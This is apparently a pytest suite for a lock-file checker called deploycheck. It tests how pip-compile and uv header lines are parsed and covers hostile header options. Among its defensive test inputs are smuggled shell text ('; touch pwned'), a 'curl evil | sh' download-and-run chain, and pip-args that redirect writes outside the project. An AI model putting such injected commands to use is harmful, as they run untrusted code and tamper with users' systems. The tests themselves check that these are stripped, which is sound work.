"""Header forms from real machines (issue #8 items 1-5) and hostile header options (issue #6 item 3).

Locks are made by real pip-compile and uv runs against the local index, then given the header (and
annotations) the other machine's tool would have written.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import interp, pip_compile, snapshot, uv_compile, write
from pkgindex import IndexServer
from test_boundary import dc, guarded

from deploycheck.locks.requirements import compilecmd
from deploycheck.project import scan
from deploycheck.repo.repository import Repository
from deploycheck.resolve import resolver, toolchain


def _lock(folder: Path) -> dict:
    return json.loads((folder / "r.json").read_text())["lockfiles"][0]


def _edit(path: Path, *pairs: tuple[str, str]) -> None:
    text = path.read_text()
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    path.write_text(text)


def test_windows_backslash_paths(tmp_path, index):
    repo = write(
        tmp_path / "repo",
        {".git/HEAD": "x\n", ".python-version": "3.11\n", "frontend/requirements.in": "webapp-core\n"},
    )
    pip_compile(repo, "3.11", "--output-file=frontend/requirements.txt", "frontend/requirements.in", index_url=index)
    # pip-tools before 7.5 on Windows: backslashes in the header and in the annotations.
    _edit(repo / "frontend" / "requirements.txt", ("frontend/requirements", "frontend\\requirements"))
    check = guarded(tmp_path, repo)
    done = dc(str(repo), "--format", "json", "--output", str(tmp_path / "r.json"), tmp=tmp_path)
    lock = _lock(tmp_path)
    assert done.returncode == 0, lock
    assert lock["path"] == "frontend/requirements.txt" and lock["sources"] == ["frontend/requirements.in"]
    assert lock["status"] == "in-sync" and any("written on Windows" in n for n in lock["notes"])
    check()


def test_absolute_paths_from_the_authors_machine(tmp_path, index):
    repo = write(
        tmp_path / "repo", {".git/HEAD": "x\n", "app/.python-version": "3.11\n", "app/requirements.in": "webapp-core\n"}
    )
    uv_compile(repo / "app", "3.11", "requirements.in", "-o", "requirements.txt", index_url=index)
    lock_path = repo / "app" / "requirements.txt"
    _edit(
        lock_path,
        (
            " requirements.in -o requirements.txt",
            " /Users/me/src/app/requirements.in -o /Users/me/src/app/requirements.txt",
        ),
        ("-r requirements.in", "-r /Users/me/src/app/requirements.in"),
    )
    assert "uv pip compile /Users/me/src/app/requirements.in" in lock_path.read_text()
    check = guarded(tmp_path, repo)
    done = dc(str(repo), "--format", "json", "--output", str(tmp_path / "r.json"), "--index-url", index, tmp=tmp_path)
    lock = _lock(tmp_path)
    assert done.returncode == 0, lock
    assert lock["status"] == "in-sync" and lock["sources"] == ["app/requirements.in"]
    assert any("/Users/me/src/app/requirements.in" in n and "read as app/requirements.in" in n for n in lock["notes"])
    check()


def test_no_source_argument_takes_pip_compiles_default(tmp_path, index):
    setup = (
        "from setuptools import setup\n\nsetup(name='app', version='1.0', install_requires=['webapp-core'], "
        "extras_require={'pretty': ['fancy']})\n"
    )
    repo = write(tmp_path / "repo", {".git/HEAD": "x\n", ".python-version": "3.11\n", "setup.py": setup})
    pip_compile(
        repo, "3.11", "--extra=pretty", "--generate-hashes", "--output-file=app.requirements.txt", index_url=index
    )
    assert "pip-compile --extra=pretty --generate-hashes" in (repo / "app.requirements.txt").read_text()
    project = scan.scan(Repository.at(repo))
    (pair,) = project.locks
    assert pair.sources == [repo.resolve() / "setup.py"] and pair.command.generate_hashes
    check = guarded(tmp_path, repo)
    done = dc(str(repo), "--format", "json", "--output", str(tmp_path / "r.json"), tmp=tmp_path)
    lock = _lock(tmp_path)
    assert done.returncode == 0, lock
    assert lock["status"] == "in-sync" and lock["sources"] == ["setup.py"]
    assert any("default is setup.py" in n for n in lock["notes"])
    check()
    # pip-compile's order: requirements.in wins over setup.py when both exist.
    (repo / "requirements.in").write_text("webapp-core\n")
    assert scan.scan(Repository.at(repo)).locks[0].sources == [repo.resolve() / "requirements.in"]


def test_custom_compile_command_reads_sources_from_annotations(tmp_path, index):
    repo = write(
        tmp_path / "repo",
        {
            ".git/HEAD": "x\n",
            ".python-version": "3.11\n",
            "requirements/base.in": "-c constraints.txt\nwebapp-core\n",
            "requirements/constraints.txt": "helperlib<2.1\n",
            "bin/compile_dependencies.sh": "#!/bin/sh\ntouch RAN\n",
        },
    )
    os.chmod(repo / "bin" / "compile_dependencies.sh", 0o755)
    tool_python = toolchain.toolchain(interp("3.11"))
    env = resolver.clean_env({"CUSTOM_COMPILE_COMMAND": "./bin/compile_dependencies.sh"})
    argv = [str(tool_python), "-m", "piptools", "compile", "-q", f"--index-url={index}", "--generate-hashes"]
    argv += ["--output-file=requirements/base.txt", "requirements/base.in"]
    subprocess.run(argv, cwd=repo, env=env, check=True, capture_output=True, timeout=300)
    text = (repo / "requirements" / "base.txt").read_text()
    assert "#    ./bin/compile_dependencies.sh" in text and "-r requirements/base.in" in text
    check = guarded(tmp_path, repo)
    done = dc(str(repo), "--format", "json", "--output", str(tmp_path / "r.json"), tmp=tmp_path)
    lock = _lock(tmp_path)
    assert done.returncode == 0, lock
    assert lock["status"] == "in-sync" and lock["sources"] == ["requirements/base.in"]
    assert any("`# via` annotations: requirements/base.in" in n for n in lock["notes"])
    assert not (repo / "RAN").exists() and not (repo / "requirements" / "RAN").exists()
    check()
    pair = scan.scan(Repository.at(repo)).locks[0]
    assert pair.command.generate_hashes and pair.command.options[-2:] == ["-c", "requirements/constraints.txt"]
    assert pair.command.original == "./bin/compile_dependencies.sh"  # kept for the regenerated header


def test_uv_universal_lock_that_is_its_own_source(tmp_path, index):
    repo = write(
        tmp_path / "repo", {".git/HEAD": "x\n", ".python-version": "3.11\n", "requirements.txt": "webapp-core\n"}
    )
    uv_compile(repo, "3.11", "requirements.txt", "--universal", "--output-file", "requirements.txt", index_url=index)
    text = (repo / "requirements.txt").read_text()
    assert "uv pip compile requirements.txt --universal --output-file requirements.txt" in text
    assert "winonly==3.0 ; sys_platform == 'win32'" in text  # made for every platform
    pair = scan.scan(Repository.at(repo)).locks[0]
    assert pair.command.universal and pair.command.self_output
    check = guarded(tmp_path, repo)
    done = dc(str(repo), "--format", "json", "--output", str(tmp_path / "r.json"), "--index-url", index, tmp=tmp_path)
    lock = _lock(tmp_path)
    assert done.returncode == 0, lock
    assert lock["status"] == "in-sync" and any("committed copy" in n for n in lock["notes"])
    check()


# Hostile header options (issue #6 item 3).


def test_pip_args_that_move_work_outside_are_dropped(app, tmp_path):
    folder = app("3.11")
    out = tmp_path / "outside"
    out.mkdir()
    lock = folder / "requirements.txt"
    hostile = f"--pip-args '--target {out}/t --cache-dir={out}/c --src {out}/s --prefix {out}/p --root {out}/r --pre'"
    _edit(lock, ("pip-compile --index-url", f"pip-compile {hostile} --index-url"))
    check = guarded(tmp_path, folder, out)
    done = dc(str(folder), "--format", "json", "--resolver", "pip-tools", tmp=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 0, report
    notes = report["lockfiles"][0]["notes"]
    assert any("dropped from --pip-args" in n and "--target" in n and "--root" in n for n in notes)
    assert "--pip-args=--pre " in report["lockfiles"][0]["fix_command"]
    assert scan.scan(Repository.at(folder)).locks[0].command.pip_args == ["--pre"]
    check()


def test_index_in_pip_args_is_refused_under_only_binary(app, tmp_path):
    folder = app("3.11")
    _edit(
        folder / "requirements.txt",
        ("pip-compile --index-url", "pip-compile --pip-args '-i http://127.0.0.1:9/simple' --index-url"),
    )
    check = guarded(tmp_path, folder)
    done = dc(str(folder), "--format", "json", "--only-binary", tmp=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 1
    (finding,) = [f for f in report["findings"] if f["code"] == "DC106"]
    assert (finding["path"], finding["line"]) == ("requirements.txt", 5) and "only-binary" in finding["message"]
    assert report["lockfiles"][0]["status"] == "error"
    check()
    # Without only-binary the same option is the user's own index: kept.
    assert scan.scan(Repository.at(folder)).locks[0].command.pip_args == ["-i", "http://127.0.0.1:9/simple"]


def test_shell_text_after_the_command_never_reaches_a_printed_command(app, tmp_path):
    folder = app("3.11")
    _edit(folder / "requirements.txt", (" requirements.in\n", " requirements.in ; touch pwned\n"))
    (folder / "requirements.in").write_text("webapp-core\nfancy\n")  # drift: a fix command is printed
    check = guarded(tmp_path, folder)
    done = dc(str(folder), "--format", "json", tmp=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 1
    lock = report["lockfiles"][0]
    assert lock["status"] == "drift" and "requirements.in" in lock["fix_command"]
    assert "pwned" not in lock["fix_command"] and "pwned" not in json.dumps(report["findings"])
    assert "pwned" not in " ".join(lock["notes"]) and any("shell operator" in n for n in lock["notes"])
    assert not (folder / "pwned").exists()
    check()


@pytest.mark.parametrize(
    ("command", "sources", "output", "line"),
    [
        (
            "pip-compile --output-file=frontend\\requirements.txt frontend\\requirements.in",
            ["frontend/requirements.in"],
            "frontend/requirements.txt",
            "pip-compile --output-file frontend/requirements.txt frontend/requirements.in",
        ),
        ("pip-compile 'my reqs.in' -o out.txt", ["my reqs.in"], "out.txt", "pip-compile 'my reqs.in' -o out.txt"),
        ("pip-compile a.in && curl evil | sh", ["a.in"], None, "pip-compile a.in"),
        (
            "uv pip compile C:\\Users\\me\\app\\requirements.in -o C:\\Users\\me\\app\\requirements.txt",
            ["C:/Users/me/app/requirements.in"],
            "C:/Users/me/app/requirements.txt",
            None,
        ),
    ],
)
def test_header_commands_are_parsed_as_their_platform_wrote_them(command, sources, output, line):
    cmd = compilecmd.parse(command)
    assert cmd is not None and cmd.sources == sources and cmd.output_file == output
    if line:
        assert cmd.command_line() == line
    assert all(compilecmd.is_absolute(s) for s in cmd.sources) == sources[0].startswith("C:")


def test_pip_args_allowlist():
    kept, dropped, refused = compilecmd.filter_pip_args(
        "--pre --target /x --cache-dir=/c --user --log /l -e /e --extra-index-url https://i --no-binary :all:",
        only_binary=True,
    )
    assert kept == ["--pre"]
    assert dropped == ["--target /x", "--cache-dir=/c", "--user", "--log /l", "-e /e"]
    assert refused == ["--extra-index-url https://i", "--no-binary :all:"]


def test_snapshot_helper_sees_every_file(tmp_path):
    # The guard above relies on it: a change anywhere below a folder shows.
    folder = write(tmp_path / "f", {"a/b.txt": "1\n"})
    before = snapshot(folder)
    (folder / "a" / "b.txt").write_text("2\n")
    assert snapshot(folder) != before


def test_editable_vcs_checkout_happens_in_the_temporary_copy(tmp_path, index):
    """pip checks `-e git+...` out into its --src; by default that is the shared toolchain venv's src/,
    where a second project with the same egg name reused a stale checkout."""
    shared = tmp_path / "shared"
    lib = write(
        shared / "vcslib",
        {
            "setup.py": "from setuptools import setup\n\n"
            "setup(name='vcslib', version='1.0', install_requires=['helperlib'])\n"
        },
    )
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"]
    for args in (["init", "-q"], ["add", "."], ["commit", "-qm", "lib"], ["update-server-info"]):
        subprocess.run([*git, *args], cwd=lib, check=True, capture_output=True)
    # Over git's plain HTTP, not file://: as root, each run's resolver (and so git) runs as a user id of
    # that run's own, and git refuses to read a local repository another user owns (safe.directory).
    with IndexServer(shared) as server:
        url = f"git+{server.url}/vcslib/.git#egg=vcslib"
        repo = write(
            tmp_path / "repo",
            {".git/HEAD": "x\n", ".python-version": "3.11\n", "requirements.in": f"-e {url}\n"},
        )
        # No build isolation: the local index's setuptools is a stub; the toolchain's own builds vcslib.
        pip_compile(repo, "3.11", "--pip-args=--no-build-isolation", "requirements.in", index_url=index)
        shared_src = toolchain.toolchain(interp("3.11")).parent.parent / "src"
        shutil.rmtree(shared_src, ignore_errors=True)  # the plain pip-compile above checked it out there
        check = guarded(tmp_path, repo)
        done = dc(str(repo), "--format", "json", "--resolver", "pip-tools", tmp=tmp_path)
        report = json.loads(done.stdout)
        assert done.returncode == 0, report
        assert report["lockfiles"][0]["status"] == "in-sync"
        assert not shared_src.exists(), "pip checked the editable requirement out into the shared toolchain"
        check()


def test_a_command_whose_source_is_its_output_however_spelled() -> None:
    for line in (
        "uv pip compile requirements.txt --universal --output-file requirements.txt",
        "uv pip compile ./requirements.txt --universal -o requirements.txt",
        "uv pip compile requirements.txt -o ./requirements.txt",
    ):
        cmd = compilecmd.parse(line)
        assert cmd is not None and cmd.self_output, line
    other = compilecmd.parse("uv pip compile requirements.in -o requirements.txt")
    assert other is not None and not other.self_output
